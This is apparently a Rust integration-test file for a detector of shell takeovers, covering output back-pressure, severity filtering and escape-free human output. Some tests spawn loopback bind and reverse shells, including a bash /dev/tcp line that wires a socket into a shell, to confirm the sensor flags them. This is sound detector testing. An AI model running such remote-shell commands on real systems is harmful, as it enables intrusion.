//! What happens with the sensor's output: nobody reads it, nobody can read it, people read it.

use anyhow::{Result, ensure};
use sensor_tests::{
    deadline::wait_for,
    hostile::{Hostile, harmless},
    lab::Lab,
    peer::{Ends, Listener, V4},
    process::command,
    programs::Programs,
    sensor::{Line, Sensor, binary},
    suite::Alone,
    takeover::Takeover,
    tools,
};

fn json() -> Result<std::process::Command> {
    let mut run = command(binary()?);
    run.args(["run", "--format", "json"]);
    Ok(run)
}

/// Nobody will ever read a finding again: better to end than to seem to watch.
fn closed_output_ends_it() -> Result<()> {
    let sensor = Sensor::start_unread(json()?)?;
    sensor.close_output();
    let takeover = Takeover::start()?;
    let status = sensor.wait()?;
    takeover.end()?;
    let said = sensor.diagnostics();
    ensure!(
        status.code().is_some_and(|code| code != 0 && code != 101),
        "it ends with {status}: {said:#?}"
    );
    let about: Vec<_> = said.iter().filter(|line| line.contains("standard output")).collect();
    ensure!(about.len() == 1, "not one line about it: {said:#?}");
    ensure!(
        !said.iter().any(|line| line.contains("panicked")),
        "it panics: {said:#?}"
    );
    Ok(())
}

/// Whoever reads the output is stuck for a while: the sensor goes on, and says later what could not be written.
fn unread_output_does_not_stop_detection() -> Result<()> {
    let sensor = Sensor::start_unread(json()?)?;
    // Far more than pipe and queue hold.
    let mut unread = Vec::new();
    for _ in 0..600 {
        let takeover = Takeover::start()?;
        unread.push(takeover.ends());
        takeover.end()?;
    }
    let about_losses = || sensor.diagnostics().iter().filter(|line| line.contains("lost")).count();
    wait_for("a warning about lines that were lost", || {
        Ok((about_losses() > 0).then_some(()))
    })?;
    sensor.read()?;
    let mut later = Vec::new();
    // The first ones may still meet a full queue.
    let finding = wait_for("a finding after the output is read again", || {
        let takeover = Takeover::start()?;
        later.push(takeover.ends());
        takeover.end()?;
        Ok(sensor.lines(0, |lines| {
            let mut findings = lines.iter().filter_map(|line| line.finding.as_ref().ok());
            findings
                .find(|finding| later.iter().any(|&ends| finding.has(ends)))
                .cloned()
        }))
    })?;
    // No takeover was forgotten: of each, the last state comes out.
    wait_for("the end of every takeover meanwhile", || {
        let ended = |lines: &[Line]| {
            let findings: Vec<_> = lines.iter().filter_map(|line| line.finding.as_ref().ok()).collect();
            let has_ended = |ends: &Ends| findings.iter().any(|finding| finding.has(*ends) && finding.has_ended());
            unread.iter().all(has_ended)
        };
        Ok(sensor.lines(0, ended).then_some(()))
    })?;
    // Every line that did come out is a whole one.
    sensor.new_ids(0)?;
    let losses = finding.property("losses").cloned().unwrap_or_default();
    let count = |name: &str| losses.get(name).and_then(serde_json::Value::as_u64);
    ensure!(
        count("outputDropped") > Some(0),
        "the finding does not tell what was lost: {finding}"
    );
    ensure!(
        count("ringFull") == Some(0) && count("readFailures") == Some(0),
        "more was lost than output: {losses}"
    );
    ensure!(
        about_losses() <= 2,
        "many warnings about one thing: {:#?}",
        sensor.diagnostics()
    );
    sensor.stop()
}

/// Whoever should read is stuck for good: a signal ends the sensor all the same, and it says what was lost.
fn stuck_output_does_not_hold_up_the_end() -> Result<()> {
    let sensor = Sensor::start_unread(json()?)?;
    // More than a pipe holds.
    for _ in 0..60 {
        Takeover::start()?.end()?;
    }
    sensor.stop()?;
    let said = sensor.diagnostics();
    ensure!(
        said.iter().any(|line| line.contains("did not take the last findings")),
        "it does not say what was lost: {said:#?}"
    );
    Ok(())
}

/// A command on a loopback connection is LOW: there with `--min-severity low`, not without.
fn low_severity_on_request() -> Result<()> {
    let sensor = Sensor::start_with(&["--min-severity", "low"])?;
    let programs = Programs::new()?;
    let lab = Lab::new(&sensor, &programs)?;
    let listener = Listener::tcp(V4)?;
    lab.bash(
        "exec 3<>/dev/tcp/127.0.0.1/$P; id <&3 >&3 2>&3; cat <&3 >copy; true",
        &[("P", &listener.port()?.to_string())],
    )?;
    let mut peer = listener.accept()?;
    peer.read_until("uid=")?;
    let ends = peer.ends();
    let finding = sensor.wait_line("a finding of low severity", 0, |finding| finding.has(ends))?;
    ensure!(finding.text("severity") == "LOW", "severity is not LOW: {finding}");
    drop(peer);
    sensor.wait_line("its end", 0, |line| line.id() == finding.id() && line.has_ended())?;
    sensor.stop()
}

/// With `--min-severity critical`, a bind shell is too little and a reverse shell is not.
fn critical_severity_only() -> Result<()> {
    let sensor = Sensor::start_with(&["--min-severity", "critical"])?;
    let programs = Programs::new()?;
    let lab = Lab::new(&sensor, &programs)?;
    let port = sensor_tests::peer::free_port(V4)?.to_string();
    let program = programs.c("connect.c", &[])?;
    lab.spawn(
        lab.command(program)?
            .args(["listen", "4", "127.0.0.1", &port, "/bin/sh"]),
    )?;
    let mut peer = sensor_tests::peer::call((V4, port.parse()?).into())?;
    peer.id()?;
    drop(peer);
    let takeover = Takeover::start()?;
    let ends = takeover.ends();
    let finding = sensor.wait_line("a finding", 0, |finding| finding.has(ends))?;
    takeover.end()?;
    let ids = sensor.new_ids(0)?;
    sensor.stop()?;
    ensure!(
        ids.len() == 1 && ids.contains(finding.id()),
        "findings besides: {ids:?}"
    );
    Ok(())
}

/// Runs `run`, has it report a hostile shell with its command, and gives all that it printed.
fn shown(run: std::process::Command) -> Result<Vec<u8>> {
    let sensor = Sensor::start_unread(run)?;
    sensor.read()?;
    let hostile = Hostile::start()?;
    let port = format!(":{}", hostile.takeover.ends().peer.port());
    let text = wait_for("a finding for people", || {
        let text = sensor.lines(0, |lines| {
            let lines: Vec<&[u8]> = lines.iter().map(|line| line.raw.as_slice()).collect();
            lines.join(&b'\n')
        });
        let words = String::from_utf8_lossy(&text);
        let is_whole = words.contains(&port) && words.contains("\\u{1b}[2J") && words.contains("  command ");
        Ok(is_whole.then_some(text))
    })?;
    hostile.takeover.end()?;
    Ok(text)
}

fn text_for_people_is_harmless() -> Result<()> {
    let mut run = command(binary()?);
    run.args(["run", "--format", "human"]);
    harmless(&shown(run)?, false)
}

/// A terminal gets colours, and nothing of what the shell calls itself.
fn no_escape_reaches_a_terminal() -> Result<()> {
    let mut run = command(tools::find("script")?);
    run.args([
        "-qec",
        &format!("exec {} run 2>/dev/null", binary()?.display()),
        "/dev/null",
    ])
    .env("TERM", "xterm");
    harmless(&shown(run)?, true)
}

pub fn cases() -> Vec<Alone> {
    vec![
        ("output::closed_ends_the_sensor", closed_output_ends_it),
        (
            "output::unread_does_not_stop_detection",
            unread_output_does_not_stop_detection,
        ),
        (
            "output::stuck_does_not_hold_up_the_end",
            stuck_output_does_not_hold_up_the_end,
        ),
        ("output::low_severity_on_request", low_severity_on_request),
        ("output::critical_severity_only", critical_severity_only),
        ("output::text_for_people_is_harmless", text_for_people_is_harmless),
        ("output::no_escape_reaches_a_terminal", no_escape_reaches_a_terminal),
    ]
}
